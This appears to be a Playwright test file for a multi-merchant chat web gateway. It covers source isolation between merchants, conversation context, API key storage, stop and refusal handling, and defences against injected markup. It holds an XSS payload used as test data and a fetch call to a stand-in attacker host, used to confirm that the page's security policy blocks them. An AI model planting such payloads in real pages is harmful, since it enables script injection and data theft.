"""The chat page in a browser: the merchants, the stream, the sources, the key."""

from __future__ import annotations

import asyncio

import pytest
from playwright.async_api import Page, expect

from tests.gateway.conftest import Platform

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

HOSTILE = '<img src="x" onerror="window.hacked=1">'


async def _ask(page: Page, question: str) -> None:
    await page.get_by_label("Your question").fill(question)
    await page.keyboard.press("Enter")


async def test_each_merchant_answers_with_its_own_sources(page: Page, demo: Platform) -> None:
    await page.goto(demo.url)
    for merchant, fact, foreign in (
        ("fjellvik", "30 days", "14 days"),
        ("voltbay", "14 days", "30 days"),
    ):
        demo.engine.reply = f"You have {fact} [1]"
        await page.get_by_role("radio", name=merchant).click()
        await _ask(page, "How long may I return?")
        await expect(page.get_by_role("log")).to_contain_text(f"You have {fact}")
        await page.get_by_text("1 sources").click()
        await expect(page.locator(".sources blockquote")).to_contain_text(fact)
        await expect(page.locator(".sources .cited")).to_have_count(1)
        await expect(page.get_by_role("log")).not_to_contain_text(foreign)


async def test_a_conversation_is_never_sent_with_another_merchants_key(
    page: Page, demo: Platform
) -> None:
    await page.goto(demo.url)
    await _ask(page, "My secret word is mangrove.")
    await expect(page.get_by_role("log")).to_contain_text("30 days [1]")
    await page.get_by_role("radio", name="voltbay").click()
    await expect(page.get_by_role("log")).to_be_empty()
    await _ask(page, "What is my secret word?")
    await expect(page.locator(".assistant .meta")).to_be_visible()
    assert "mangrove" in str(demo.engine.bodies[0]["messages"])
    assert "mangrove" not in str(demo.engine.bodies[-1]["messages"])


async def test_the_second_turn_carries_the_first(page: Page, demo: Platform) -> None:
    await page.goto(demo.url)
    await _ask(page, "My secret word is mangrove.")
    await expect(page.locator(".assistant .meta")).to_have_count(1)
    await _ask(page, "What is my secret word?")
    await expect(page.locator(".assistant .meta")).to_have_count(2)
    assert "mangrove" in str(demo.engine.bodies[-1]["messages"])


async def test_markup_in_documents_and_answers_stays_text(page: Page, demo: Platform) -> None:
    demo.search.title = HOSTILE
    demo.engine.reply = f"Look: {HOSTILE} [1]"
    await page.goto(demo.url)
    await _ask(page, "Show me.")
    await expect(page.locator(".assistant .text")).to_contain_text(HOSTILE)
    await page.get_by_text("1 sources").click()
    await expect(page.locator(".sources strong")).to_contain_text(HOSTILE)
    assert await page.locator("#log img").count() == 0
    assert await page.evaluate("window.hacked") is None


async def test_the_policy_stops_a_script_that_got_in(page: Page, demo: Platform) -> None:
    await page.goto(demo.url)
    stopped = await page.evaluate(
        """() => {
            try { document.body.innerHTML = '<p>in</p>'; return false; }
            catch (error) { return error instanceof TypeError; }
        }"""
    )
    assert stopped
    assert await page.evaluate(
        "fetch('https://evil.example/').then(() => 'sent', () => 'kept')"
    ) == ("kept")


async def test_stop_ends_the_generation_in_the_engine(page: Page, demo: Platform) -> None:
    demo.engine.endless = True
    await page.goto(demo.url)
    await _ask(page, "Go on for ever.")
    await expect(page.locator(".assistant .text")).to_contain_text("on")
    await page.get_by_role("button", name="Stop").click()
    await expect(page.get_by_text("Stopped.")).to_be_visible()
    await asyncio.wait_for(demo.engine.ended_early.wait(), 5)


async def test_without_a_demo_it_asks_for_a_key_and_keeps_it_in_the_tab(
    page: Page, platform: Platform
) -> None:
    await page.goto(platform.url)
    await page.get_by_label("Your API key").fill("wrong")
    await page.get_by_role("button", name="Open the chat").click()
    await expect(page.get_by_text("invalid_api_key")).to_be_visible()
    await page.get_by_label("Your API key").fill("key-v")
    await page.get_by_role("button", name="Open the chat").click()
    await expect(page.get_by_label("Your question")).to_be_visible()
    await page.reload()
    await expect(page.get_by_label("Your question")).to_be_visible()
    assert await page.evaluate("localStorage.length") == 0
    assert await page.evaluate("document.cookie") == ""
    await page.get_by_role("button", name="Use another key").click()
    assert await page.evaluate("sessionStorage.length") == 0


async def test_a_refusal_is_shown_with_its_code(page: Page, demo: Platform) -> None:
    demo.limiter.running["fjellvik"] = 10_000
    await page.goto(demo.url)
    await _ask(page, "Hello?")
    await expect(page.get_by_text("concurrency_limit_exceeded")).to_be_visible()
